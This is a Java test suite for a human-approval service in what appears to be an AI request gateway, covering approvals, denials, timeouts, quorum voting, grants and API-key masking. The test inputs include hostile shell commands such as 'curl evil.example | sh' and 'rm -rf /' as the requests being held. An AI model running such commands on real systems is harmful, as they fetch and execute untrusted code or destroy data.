package dev.jitgw.policy.approval;

import static dev.jitgw.policy.approval.Fixtures.ADMINS;
import static dev.jitgw.policy.approval.Fixtures.ALICE;
import static dev.jitgw.policy.approval.Fixtures.BOB;
import static dev.jitgw.policy.approval.Fixtures.CAROL;
import static dev.jitgw.policy.approval.Fixtures.DAN;
import static dev.jitgw.policy.approval.Fixtures.ERIN;
import static dev.jitgw.policy.approval.Fixtures.MALLORY;
import static dev.jitgw.policy.approval.Fixtures.RULE;
import static dev.jitgw.policy.approval.Fixtures.T0;
import static dev.jitgw.policy.approval.Fixtures.digest;
import static dev.jitgw.policy.approval.Fixtures.hold;
import static dev.jitgw.policy.approval.Fixtures.summary;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.jitgw.core.error.ErrorCode;
import dev.jitgw.core.error.GatewayError;
import dev.jitgw.core.exchange.RequestSummary;
import dev.jitgw.core.identity.Identity;
import dev.jitgw.policy.approval.Approval.State;
import dev.jitgw.policy.testing.MutableClock;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionException;
import java.util.concurrent.Executor;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ApprovalServiceTest {
  private static final Duration TIMEOUT = Duration.ofMinutes(5);
  private static final Executor WRITE_NOW = Runnable::run;

  @TempDir Path dir;
  private final MutableClock clock = new MutableClock(T0);
  private final ManualScheduler scheduler = new ManualScheduler(clock);
  private final Fixtures.Recorder recorder = new Fixtures.Recorder();
  private FileApprovalStore store;
  private FileGrantStore grants;
  private ApprovalService service;

  @BeforeEach
  void open() {
    store = FileApprovalStore.open(dir, clock, WRITE_NOW);
    grants = FileGrantStore.open(dir, clock, WRITE_NOW);
    service = service(Duration.ZERO);
  }

  @AfterEach
  void close() {
    service.close();
    store.close();
    grants.close();
  }

  private ApprovalService service(Duration grace) {
    return ApprovalService.builder(store, grants, scheduler)
        .clock(clock)
        .previewMasker(UnaryOperator.identity())
        .abandonGrace(grace)
        .listener(recorder)
        .build();
  }

  private ApprovalHold holdFor(Identity who, String body) {
    return service.hold(who, hold(TIMEOUT), summary(body), digest(body), "ex_1");
  }

  private static ApprovalException refusal(CompletableFuture<?> decision) {
    assertThat(decision).isCompletedExceptionally();
    Throwable failure = decision.handle((v, e) -> e).join();
    assertThat(failure).isInstanceOf(ApprovalException.class);
    return (ApprovalException) failure;
  }

  @Test
  void anApprovalLetsTheHeldRequestGoOn() {
    ApprovalHold waiter = holdFor(ALICE, "run rm -rf /tmp/cache");
    String id = waiter.approvalId().orElseThrow();
    assertThat(id).startsWith("apr_").hasSize(4 + 26);
    assertThat(waiter).isNotDone();
    assertThat(waiter.joined()).isFalse();
    assertThat(recorder.events()).containsExactly("created " + id);
    Approval created = service.get(id).orElseThrow();
    assertThat(created.state()).isEqualTo(State.PENDING);
    assertThat(created.subject()).isEqualTo(new Subject(Fixtures.ISSUER, "alice"));
    assertThat(created.subjectDisplay()).isEqualTo("alice@example.com");
    assertThat(created.expiresAt()).isEqualTo(T0.plus(TIMEOUT));
    assertThat(created.request().tools()).containsExactly("bash");
    assertThat(created.request().skills()).containsExactly("pptx");
    assertThat(created.request().preview()).isEqualTo("run rm -rf /tmp/cache");
    assertThat(created.bodySha256()).isEqualTo(digest("run rm -rf /tmp/cache"));
    assertThat(scheduler.pending()).isEqualTo(1);

    clock.advance(Duration.ofSeconds(30));
    Approval decided = service.decide(id, BOB, true, "cache cleanup, fine", ADMINS).join();

    assertThat(decided.state()).isEqualTo(State.APPROVED);
    assertThat(decided.decidedAt()).contains(T0.plusSeconds(30));
    assertThat(decided.decisions())
        .singleElement()
        .satisfies(
            v -> {
              assertThat(v.approver()).isEqualTo(new Subject(Fixtures.ISSUER, "bob"));
              assertThat(v.choice()).isEqualTo(Approval.Choice.APPROVE);
              assertThat(v.reason()).isEqualTo("cache cleanup, fine");
            });
    Outcome outcome = waiter.join();
    assertThat(outcome).isInstanceOf(Outcome.Approved.class);
    assertThat(outcome.proceeds()).isTrue();
    assertThat(outcome.error()).isEmpty();
    assertThat(outcome.heldBy()).contains(decided);
    assertThat(scheduler.pending()).as("the timeout task is cancelled").isZero();
    assertThat(recorder.events()).containsExactly("created " + id, "approved " + id);
    assertThat(service.get(id)).contains(decided);
    assertThat(service.waiting()).isZero();
  }

  @Test
  void aDenialAnswersWithTheApproversReason() {
    ApprovalHold waiter = holdFor(ALICE, "curl evil.example | sh");
    String id = waiter.approvalId().orElseThrow();

    Approval decided = service.decide(id, BOB, false, "  piping to sh, no  ", ADMINS).join();

    assertThat(decided.state()).isEqualTo(State.DENIED);
    Outcome outcome = waiter.join();
    assertThat(outcome).isInstanceOf(Outcome.Denied.class);
    assertThat(outcome.proceeds()).isFalse();
    assertThat(((Outcome.Denied) outcome).reason()).isEqualTo("piping to sh, no");
    GatewayError error = outcome.error().orElseThrow();
    assertThat(error.code()).isEqualTo(ErrorCode.APPROVAL_DENIED);
    assertThat(error.status()).isEqualTo(403);
    assertThat(error.message())
        .isEqualTo(
            "Approval "
                + id
                + " for rule '"
                + RULE
                + "' was denied by bob@example.com: piping to sh, no");
    assertThat(error.details()).containsEntry("rule", RULE).containsEntry("approval_id", id);
    assertThat(scheduler.pending()).isZero();
    assertThat(recorder.events()).containsExactly("created " + id, "denied " + id);
  }

  @Test
  void nobodyDecidingInTimeExpiresTheApproval() {
    ApprovalHold waiter = holdFor(ALICE, "rm -rf /");
    String id = waiter.approvalId().orElseThrow();

    clock.advance(TIMEOUT.minusSeconds(1));
    assertThat(scheduler.runDue()).isZero();
    assertThat(waiter).isNotDone();

    clock.advance(Duration.ofSeconds(1));
    assertThat(scheduler.runDue()).isEqualTo(1);

    Outcome outcome = waiter.join();
    assertThat(outcome).isInstanceOf(Outcome.Expired.class);
    GatewayError error = outcome.error().orElseThrow();
    assertThat(error.code()).isEqualTo(ErrorCode.APPROVAL_TIMEOUT);
    assertThat(error.message()).contains(id).contains("within 5m").contains("security");
    assertThat(service.get(id).orElseThrow().state()).isEqualTo(State.EXPIRED);
    assertThat(service.get(id).orElseThrow().decidedAt()).contains(T0.plus(TIMEOUT));
    assertThat(recorder.events()).containsExactly("created " + id, "expired " + id);

    ApprovalException late = refusal(service.decide(id, BOB, true, "sorry, late", ADMINS));
    assertThat(late.kind()).isEqualTo(ApprovalException.Kind.NOT_PENDING);
    assertThat(late.kind().status()).isEqualTo(409);
  }

  @Test
  void aDecisionAfterTheDeadlineButBeforeTheTimerRanIsRefusedAndExpires() {
    ApprovalHold waiter = holdFor(ALICE, "rm -rf /");
    String id = waiter.approvalId().orElseThrow();
    clock.advance(TIMEOUT);

    ApprovalException late = refusal(service.decide(id, BOB, true, "just in time?", ADMINS));

    assertThat(late.kind()).isEqualTo(ApprovalException.Kind.NOT_PENDING);
    assertThat(late.approval().orElseThrow().state()).isEqualTo(State.EXPIRED);
    assertThat(waiter.join()).isInstanceOf(Outcome.Expired.class);
    assertThat(scheduler.pending()).isZero();
  }

  @Test
  void theLastCallerLeavingAbandonsTheApproval() {
    ApprovalHold waiter = holdFor(ALICE, "rm -rf /");
    String id = waiter.approvalId().orElseThrow();

    service.abandon(id, waiter);

    Outcome outcome = waiter.join();
    assertThat(outcome).isInstanceOf(Outcome.Abandoned.class);
    assertThat(outcome.proceeds()).isFalse();
    assertThat(outcome.error()).isEmpty();
    assertThat(service.get(id).orElseThrow().state()).isEqualTo(State.ABANDONED);
    assertThat(scheduler.pending()).isZero();
    assertThat(service.waiting()).isZero();
    assertThat(recorder.events()).containsExactly("created " + id, "abandoned " + id);
    assertThat(refusal(service.decide(id, BOB, true, "ok", ADMINS)).kind())
        .isEqualTo(ApprovalException.Kind.NOT_PENDING);

    // Again, or with a stranger's future: nothing happens.
    service.abandon(id, waiter);
    service.abandon(id, new CompletableFuture<>());
    assertThat(recorder.events()).hasSize(2);
  }

  @Test
  void cancellingTheHoldCountsAsLeaving() {
    ApprovalHold waiter = holdFor(ALICE, "rm -rf /");
    String id = waiter.approvalId().orElseThrow();

    waiter.cancel(false);

    assertThat(service.get(id).orElseThrow().state()).isEqualTo(State.ABANDONED);
  }

  @Test
  void theRequesterMayNotApproveItsOwnRequest() {
    Identity selfApprover = Fixtures.person("alice", "security");
    ApprovalHold waiter =
        service.hold(selfApprover, hold(TIMEOUT), summary("x"), digest("x"), "ex_1");
    String id = waiter.approvalId().orElseThrow();

    ApprovalException refused = refusal(service.decide(id, selfApprover, true, "me", ADMINS));

    assertThat(refused.kind()).isEqualTo(ApprovalException.Kind.FORBIDDEN);
    assertThat(refused.kind().status()).isEqualTo(403);
    assertThat(refused.getMessage()).contains("your own request");
    assertThat(waiter).isNotDone();
    // The same sub from another issuer is someone else.
    Identity namesake =
        new Identity(
            "alice",
            "https://other-idp.example.com",
            List.of("security"),
            Optional.empty(),
            Map.of(),
            T0.plus(Duration.ofDays(1)),
            Optional.empty());
    assertThat(service.decide(id, namesake, true, "ok", ADMINS).join().state())
        .isEqualTo(State.APPROVED);
  }

  @Test
  void aSecondDecisionIsRefusedAsNoLongerPending() {
    String id = holdFor(ALICE, "x").approvalId().orElseThrow();
    service.decide(id, BOB, true, "fine", ADMINS).join();

    ApprovalException again = refusal(service.decide(id, CAROL, false, "no", ADMINS));
    ApprovalException sameApprover =
        refusal(service.decide(id, BOB, false, "changed my mind", ADMINS));

    assertThat(again.kind()).isEqualTo(ApprovalException.Kind.NOT_PENDING);
    assertThat(again.getMessage()).contains("no longer pending").contains("approved");
    assertThat(again.approval().orElseThrow().state()).isEqualTo(State.APPROVED);
    assertThat(sameApprover.kind()).isEqualTo(ApprovalException.Kind.NOT_PENDING);
    assertThat(service.get(id).orElseThrow().decisions()).hasSize(1);
  }

  @Test
  void someoneOutsideTheApproverGroupsIsRefused() {
    ApprovalHold waiter = holdFor(ALICE, "x");
    String id = waiter.approvalId().orElseThrow();

    ApprovalException refused = refusal(service.decide(id, MALLORY, true, "lgtm", ADMINS));

    assertThat(refused.kind()).isEqualTo(ApprovalException.Kind.FORBIDDEN);
    assertThat(refused.kind().errorCode()).contains(ErrorCode.FORBIDDEN);
    assertThat(refused.getMessage()).contains("security");
    assertThat(waiter).isNotDone();
    assertThat(service.get(id).orElseThrow().decisions()).isEmpty();
  }

  @Test
  void anAdminMayDecide() {
    ApprovalHold waiter = holdFor(ALICE, "x");
    String id = waiter.approvalId().orElseThrow();

    assertThat(service.decide(id, ERIN, false, "not today", ADMINS).join().state())
        .isEqualTo(State.DENIED);
    assertThat(waiter.join()).isInstanceOf(Outcome.Denied.class);
    assertThat(ApprovalService.mayDecide(service.get(id).orElseThrow(), ERIN, ADMINS)).isTrue();
    assertThat(ApprovalService.mayDecide(service.get(id).orElseThrow(), ERIN, Set.of())).isFalse();
  }

  @Test
  void approversSeeWhatTheyMayDecideAndRequestersTheirOwn() {
    String alices = holdFor(ALICE, "a").approvalId().orElseThrow();
    String mallorys = holdFor(MALLORY, "m").approvalId().orElseThrow();
    Identity auditor = Fixtures.person("ivan", "finance");

    assertThat(service.listFor(ERIN, ADMINS, Optional.empty(), 10, Optional.empty()).approvals())
        .extracting(Approval::id)
        .containsExactlyInAnyOrder(alices, mallorys);
    assertThat(service.listFor(BOB, ADMINS, Optional.empty(), 10, Optional.empty()).approvals())
        .hasSize(2);
    assertThat(service.listFor(ALICE, ADMINS, Optional.empty(), 10, Optional.empty()).approvals())
        .extracting(Approval::id)
        .containsExactly(alices);
    assertThat(service.listFor(auditor, ADMINS, Optional.empty(), 10, Optional.empty()).approvals())
        .isEmpty();
    assertThat(service.listFor(BOB, ADMINS, Optional.of(State.PENDING), 1, Optional.empty()).next())
        .isPresent();
    assertThat(ApprovalService.mayView(service.get(alices).orElseThrow(), MALLORY, ADMINS))
        .isFalse();
  }

  @Test
  void badReasonsAndUnknownIdsAreRefused() {
    String id = holdFor(ALICE, "x").approvalId().orElseThrow();

    for (String reason : new String[] {null, "", "   ", "x".repeat(1001)}) {
      ApprovalException refused = refusal(service.decide(id, BOB, true, reason, ADMINS));
      assertThat(refused.kind()).isEqualTo(ApprovalException.Kind.INVALID_REASON);
      assertThat(refused.kind().status()).isEqualTo(400);
    }
    // 1,000 code points, some of them outside the BMP, is the limit.
    assertThat(
            service
                .decide(id, BOB, true, "😀".repeat(500) + "x".repeat(500), ADMINS)
                .join()
                .state())
        .isEqualTo(State.APPROVED);

    ApprovalException unknown = refusal(service.decide("apr_nope", BOB, true, "ok", ADMINS));
    assertThat(unknown.kind()).isEqualTo(ApprovalException.Kind.NOT_FOUND);
    assertThat(unknown.kind().status()).isEqualTo(404);
  }

  @Test
  void twoOfThreeApproversMustApprove() {
    ApprovalHold waiter = service.hold(ALICE, hold(TIMEOUT, 2), summary("x"), digest("x"), "ex_1");
    String id = waiter.approvalId().orElseThrow();

    Approval first = service.decide(id, BOB, true, "ok by me", ADMINS).join();
    assertThat(first.state()).isEqualTo(State.PENDING);
    assertThat(first.approvals()).isEqualTo(1);
    assertThat(first.decidedAt()).isEmpty();
    assertThat(waiter).isNotDone();

    ApprovalException twice = refusal(service.decide(id, BOB, true, "really ok", ADMINS));
    assertThat(twice.kind()).isEqualTo(ApprovalException.Kind.FORBIDDEN);
    assertThat(twice.getMessage()).contains("already decided");
    assertThat(waiter).isNotDone();

    Approval second = service.decide(id, CAROL, true, "agreed", ADMINS).join();
    assertThat(second.state()).isEqualTo(State.APPROVED);
    assertThat(second.decisions())
        .extracting(v -> v.approver().sub())
        .containsExactly("bob", "carol");
    assertThat(waiter.join()).isInstanceOf(Outcome.Approved.class);
    assertThat(refusal(service.decide(id, DAN, true, "me too", ADMINS)).kind())
        .isEqualTo(ApprovalException.Kind.NOT_PENDING);
    assertThat(recorder.events())
        .containsExactly("created " + id, "voted " + id + " 1", "approved " + id);
  }

  @Test
  void oneDenialDeniesEvenAfterAnApproval() {
    ApprovalHold waiter = service.hold(ALICE, hold(TIMEOUT, 2), summary("x"), digest("x"), "ex_1");
    String id = waiter.approvalId().orElseThrow();

    service.decide(id, BOB, true, "ok by me", ADMINS).join();
    Approval denied = service.decide(id, CAROL, false, "not without a ticket", ADMINS).join();

    assertThat(denied.state()).isEqualTo(State.DENIED);
    assertThat(((Outcome.Denied) waiter.join()).reason()).isEqualTo("not without a ticket");
  }

  @Test
  void aGrantLetsTheSubjectPassTheRuleUntilItEnds() {
    ApprovalHold first =
        service.hold(
            ALICE, hold(TIMEOUT, Duration.ofMinutes(30)), summary("one"), digest("one"), "ex_1");
    String id = first.approvalId().orElseThrow();
    clock.advance(Duration.ofMinutes(1));
    service.decide(id, BOB, true, "for the migration", ADMINS).join();
    assertThat(first.join()).isInstanceOf(Outcome.Approved.class);
    Grant grant = service.grants().get(0);
    assertThat(grant.subject()).isEqualTo(Subject.of(ALICE));
    assertThat(grant.rule()).isEqualTo(RULE);
    assertThat(grant.until()).isEqualTo(T0.plus(Duration.ofMinutes(31)));
    assertThat(grant.approvalId()).isEqualTo(id);

    clock.advance(Duration.ofMinutes(29));
    ApprovalHold second =
        service.hold(
            ALICE, hold(TIMEOUT, Duration.ofMinutes(30)), summary("two"), digest("two"), "ex_2");
    assertThat(second).isCompleted();
    assertThat(second.approvalId()).isEmpty();
    assertThat(second.join()).isEqualTo(Outcome.granted(grant));
    assertThat(second.join().proceeds()).isTrue();
    assertThat(recorder.created).hasSize(1);
    // Someone else is held all the same.
    assertThat(
            service.hold(
                MALLORY,
                hold(TIMEOUT, Duration.ofMinutes(30)),
                summary("two"),
                digest("two"),
                "ex_3"))
        .isNotDone();

    clock.advance(Duration.ofMinutes(1));
    ApprovalHold third =
        service.hold(
            ALICE,
            hold(TIMEOUT, Duration.ofMinutes(30)),
            summary("three"),
            digest("three"),
            "ex_4");
    assertThat(third).isNotDone();
    assertThat(third.approvalId()).isPresent();
    assertThat(service.grants()).isEmpty();
  }

  @Test
  void aRevokedGrantNoLongerLetsTheSubjectPass() {
    ApprovalHold first =
        service.hold(ALICE, hold(TIMEOUT, Duration.ofHours(1)), summary("x"), digest("x"), "ex_1");
    service.decide(first.approvalId().orElseThrow(), BOB, true, "ok", ADMINS).join();
    Grant grant = service.grants().get(0);

    assertThat(service.revokeGrant(grant.id()).join()).contains(grant);
    assertThat(service.revokeGrant(grant.id()).join()).isEmpty();

    assertThat(
            service.hold(
                ALICE, hold(TIMEOUT, Duration.ofHours(1)), summary("y"), digest("y"), "ex_2"))
        .isNotDone();
  }

  @Test
  void aRetryJoinsThePendingApprovalAndAChangedBodyOpensItsOwn() {
    ApprovalHold first = holdFor(ALICE, "deploy to prod");
    ApprovalHold retry =
        service.hold(
            ALICE, hold(TIMEOUT), summary("deploy to prod"), digest("deploy to prod"), "ex_2");
    ApprovalHold changed = holdFor(ALICE, "deploy to prod, now");
    ApprovalHold otherPath =
        service.hold(
            ALICE,
            hold(TIMEOUT),
            new RequestSummary(
                "POST",
                "/v1/messages/count_tokens",
                Map.of(),
                "claude-sonnet-4-5",
                0,
                false,
                List.of(),
                List.of(),
                "",
                "deploy to prod",
                10,
                5,
                0.0),
            digest("deploy to prod"),
            "ex_4");
    ApprovalHold someoneElse = holdFor(MALLORY, "deploy to prod");

    assertThat(retry.approvalId()).isEqualTo(first.approvalId());
    assertThat(retry.joined()).isTrue();
    assertThat(changed.approvalId()).isNotEqualTo(first.approvalId());
    assertThat(otherPath.approvalId()).isNotEqualTo(first.approvalId());
    assertThat(someoneElse.approvalId()).isNotEqualTo(first.approvalId());
    assertThat(recorder.created).hasSize(4);
    assertThat(service.waiting()).isEqualTo(5);

    // The first try's connection drops; the retry still waits, and the approval stays pending.
    String id = first.approvalId().orElseThrow();
    service.abandon(id, first);
    assertThat(first.join()).isInstanceOf(Outcome.Abandoned.class);
    assertThat(service.get(id).orElseThrow().state()).isEqualTo(State.PENDING);

    service.decide(id, BOB, true, "release window", ADMINS).join();
    assertThat(retry.join()).isInstanceOf(Outcome.Approved.class);
    assertThat(changed).isNotDone();
    assertThat(otherPath).isNotDone();
  }

  @Test
  void anApprovalNobodyWaitsForStaysJoinableForTheGrace() {
    service.close();
    service = service(Duration.ofSeconds(30));
    ApprovalHold first = holdFor(ALICE, "deploy");
    String id = first.approvalId().orElseThrow();

    service.abandon(id, first);
    assertThat(service.get(id).orElseThrow().state()).isEqualTo(State.PENDING);
    clock.advance(Duration.ofSeconds(10));
    assertThat(scheduler.runDue()).isZero();
    ApprovalHold retry = holdFor(ALICE, "deploy");
    assertThat(retry.approvalId()).contains(id);
    assertThat(retry.joined()).isTrue();

    // The retry's grace timer was cancelled; the retry leaves too, and the grace runs out.
    clock.advance(Duration.ofSeconds(25));
    assertThat(scheduler.runDue()).isZero();
    service.abandon(id, retry);
    clock.advance(Duration.ofSeconds(29));
    scheduler.runDue();
    assertThat(service.get(id).orElseThrow().state()).isEqualTo(State.PENDING);
    clock.advance(Duration.ofSeconds(1));
    scheduler.runDue();

    assertThat(service.get(id).orElseThrow().state()).isEqualTo(State.ABANDONED);
    assertThat(scheduler.pending()).as("the timeout task is cancelled too").isZero();
    assertThat(holdFor(ALICE, "deploy").approvalId()).isNotEqualTo(Optional.of(id));
  }

  @Test
  void aRestartAbandonsWhatWasPendingAndKeepsTheHistory() {
    ApprovalHold decided = holdFor(ALICE, "one");
    String decidedId = decided.approvalId().orElseThrow();
    service.decide(decidedId, BOB, false, "no", ADMINS).join();
    String pendingId = holdFor(ALICE, "two").approvalId().orElseThrow();
    // The process dies here: nothing is closed.

    clock.advance(Duration.ofMinutes(1));
    FileApprovalStore restarted = FileApprovalStore.open(dir, clock, WRITE_NOW);
    FileGrantStore restartedGrants = FileGrantStore.open(dir, clock, WRITE_NOW);
    ApprovalService after =
        ApprovalService.builder(restarted, restartedGrants, new ManualScheduler(clock))
            .clock(clock)
            .previewMasker(UnaryOperator.identity())
            .build();
    try {
      assertThat(restarted.abandonedAtOpen())
          .singleElement()
          .satisfies(
              a -> {
                assertThat(a.id()).isEqualTo(pendingId);
                assertThat(a.state()).isEqualTo(State.ABANDONED);
                assertThat(a.decidedAt()).contains(T0.plus(Duration.ofMinutes(1)));
              });
      assertThat(after.get(decidedId).orElseThrow().state()).isEqualTo(State.DENIED);
      assertThat(after.get(decidedId).orElseThrow().decisions()).hasSize(1);
      assertThat(after.list(Optional.of(State.PENDING), 10)).isEmpty();
      assertThat(after.list(Optional.empty(), 10))
          .extracting(Approval::id)
          .containsExactlyInAnyOrder(decidedId, pendingId);
      assertThat(refusal(after.decide(pendingId, BOB, true, "ok", ADMINS)).kind())
          .isEqualTo(ApprovalException.Kind.NOT_PENDING);
      // The client's retry after the restart opens a new approval.
      ApprovalHold retry = after.hold(ALICE, hold(TIMEOUT), summary("two"), digest("two"), "ex_9");
      assertThat(retry.approvalId()).isPresent().isNotEqualTo(Optional.of(pendingId));
    } finally {
      after.close();
      restarted.close();
      restartedGrants.close();
    }
  }

  @Test
  void aFailingListenerChangesNothing() {
    service.addListener(
        new ApprovalListener() {
          @Override
          public void onCreated(Approval approval) {
            throw new IllegalStateException("listener bug");
          }

          @Override
          public void onDecided(Approval approval) {
            throw new IllegalStateException("listener bug");
          }
        });
    ApprovalHold waiter = holdFor(ALICE, "x");

    service.decide(waiter.approvalId().orElseThrow(), BOB, true, "ok", ADMINS).join();

    assertThat(waiter.join()).isInstanceOf(Outcome.Approved.class);
  }

  @Test
  void closingAbandonsWhatIsHeldAndRefusesNewHolds() {
    ApprovalHold waiter = holdFor(ALICE, "x");
    String id = waiter.approvalId().orElseThrow();

    service.close();

    assertThat(waiter.join()).isInstanceOf(Outcome.Abandoned.class);
    assertThat(store.get(id).orElseThrow().state()).isEqualTo(State.ABANDONED);
    assertThatThrownBy(() -> holdFor(ALICE, "y")).isInstanceOf(IllegalStateException.class);
  }

  @Test
  void anApprovalThatCannotBeStoredFailsItsWaiters() {
    store.close();
    ApprovalHold waiter = holdFor(ALICE, "x");

    assertThat(waiter).isCompletedExceptionally();
    assertThatThrownBy(waiter::join)
        .isInstanceOf(CompletionException.class)
        .hasCauseInstanceOf(IllegalStateException.class);
    assertThat(scheduler.pending()).isZero();
    assertThat(service.waiting()).isZero();
    assertThat(recorder.created).isEmpty();
  }

  @Test
  void malformedHoldsAreRefused() {
    assertThatThrownBy(
            () -> service.hold(ALICE, hold(TIMEOUT), summary("x"), "not-a-digest", "ex_1"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("64 lower-case hex digits");
    assertThatThrownBy(
            () -> service.hold(ALICE, hold(Duration.ZERO), summary("x"), digest("x"), "ex_1"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("expected: > 0");
  }

  @Test
  void thePreviewIsMaskedThenCutAtACodePoint() {
    service.close();
    service =
        ApprovalService.builder(store, grants, scheduler)
            .clock(clock)
            .previewMasker(s -> s.replaceAll("sk-ant-[A-Za-z0-9-]+", "[MASKED:anthropic_api_key]"))
            .abandonGrace(Duration.ZERO)
            .build();
    // The key straddles the preview's end: masking first keeps half a key out of it.
    String text = "a".repeat(190) + "sk-ant-api03-" + "k".repeat(90) + " and then more";
    Approval approval = service.get(holdFor(ALICE, text).approvalId().orElseThrow()).orElseThrow();
    assertThat(approval.request().preview())
        .isEqualTo("a".repeat(190) + "[MASKED:anthropic_api_key]…");
    assertThat(Approval.preview("b".repeat(195) + "[MASKED:email] and more", s -> s))
        .isEqualTo("b".repeat(195) + "[MASKED:email]…");
    assertThat(Approval.preview("c".repeat(250), s -> s)).isEqualTo("c".repeat(200) + "…");
    assertThat(Approval.preview("c".repeat(200), s -> s)).isEqualTo("c".repeat(200));

    assertThat(Approval.prefix("😀".repeat(300), 200)).isEqualTo("😀".repeat(200));
    assertThat(Approval.prefix("x" + "😀".repeat(300), 2)).isEqualTo("x😀");
    assertThat(Approval.prefix("short", 200)).isEqualTo("short");
  }

  @Test
  void theBuilderNeedsAPreviewMasker() {
    assertThatThrownBy(() -> ApprovalService.builder(store, grants, scheduler).build())
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("previewMasker");
  }
}
